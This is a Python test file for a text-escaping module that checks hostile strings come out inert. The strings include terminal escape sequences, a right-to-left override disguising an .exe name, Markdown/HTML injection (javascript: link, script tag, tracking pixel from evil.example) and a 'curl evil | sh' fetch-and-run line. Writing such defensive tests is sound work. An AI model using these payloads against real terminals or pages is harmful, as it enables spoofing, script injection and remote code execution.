"""Text of strangers: what a terminal or a Markdown page would obey is written out, all else stays."""

import re
import unicodedata

import pytest
from edgepress.files.escaping import LINE_LIMIT, markdown, one_line, printable, without_controls
from hypothesis import given
from hypothesis import strategies as st

ORDINARY = [
    "model.layers.0.self_attn.q_proj",
    "W4A16-g64 gptq ◆",
    "naïve 数 12\u202f345",
    "a\tb",
    "±0.057, ×3.6",
    "",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_stays(text: str) -> None:
    assert printable(text) == one_line(text) == without_controls(text) == text


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        ("\x1b]0;owned\x07", r"\x1b]0;owned\x07"),
        ("\x9b2J", r"\x9b2J"),
        ("a\rb\x08\x00", r"a\x0db\x08\x00"),
        ("gnp\u202etxt.exe", r"gnp\u202etxt.exe"),
        ("zero\u200bwidth\ufeff", r"zero\u200bwidth\ufeff"),
        ("tag\U000e0041", r"tag\U000e0041"),
        ("line\u2028break", r"line\u2028break"),
        ("half\ud800", r"half\ud800"),
    ],
)
def test_what_acts_is_written_out(hostile: str, shown: str) -> None:
    assert printable(hostile) == one_line(hostile) == shown


def test_line_breaks_are_the_text_s_or_the_name_s() -> None:
    assert printable("a\nb\x1b") == "a\nb\\x1b"
    assert one_line("a\n→ run: evil") == "a\\n→ run: evil"


def test_a_line_without_end_is_cut() -> None:
    assert printable("x" * 50_000 + "\ny") == "x" * LINE_LIMIT + " … (50,000 characters)\ny"


@given(st.text())
def test_nothing_that_acts_is_left(text: str) -> None:
    for shown in (printable(text), one_line(text), markdown(text)):
        assert all(
            unicodedata.category(one) not in {"Cc", "Cf", "Cs", "Zl", "Zp"}
            for one in shown
            if one not in "\n\t"
        )
    assert "\n" not in one_line(text) and "\n" not in markdown(text)


def test_a_model_s_text_keeps_its_scripts() -> None:
    assert (
        without_controls("👩\u200d🚀 \u202bאב\u202c\n\x1b[31mred")
        == "👩\u200d🚀 \u202bאב\u202c\n\\x1b[31mred"
    )


@pytest.mark.parametrize("text", ["model.layers.0.mlp.down_proj", "W8A8 (RTN), 3.5 %", "recipe: w4a16"])
def test_plain_words_stay_in_markdown(text: str) -> None:
    assert markdown(text) == text


@pytest.mark.parametrize(
    "hostile",
    [
        "[click](javascript:alert(1))",
        "<script>alert(1)</script>",
        "<https://evil.example>",
        "https://evil.example/x",
        "WWW.evil.example",
        "me@evil.example",
        "![x](https://evil.example/pixel.png)",
        "name | other cell |",
        "`code` <b>",
        "a\n\n# A heading\n\n```\ncurl evil | sh\n```",
        "&lt;b&gt;",
        "**bold** *em* ~~gone~~",
    ],
)
def test_markdown_is_one_code_span(hostile: str) -> None:
    assert re.fullmatch(r"`[^`|\n]+`", markdown(hostile))
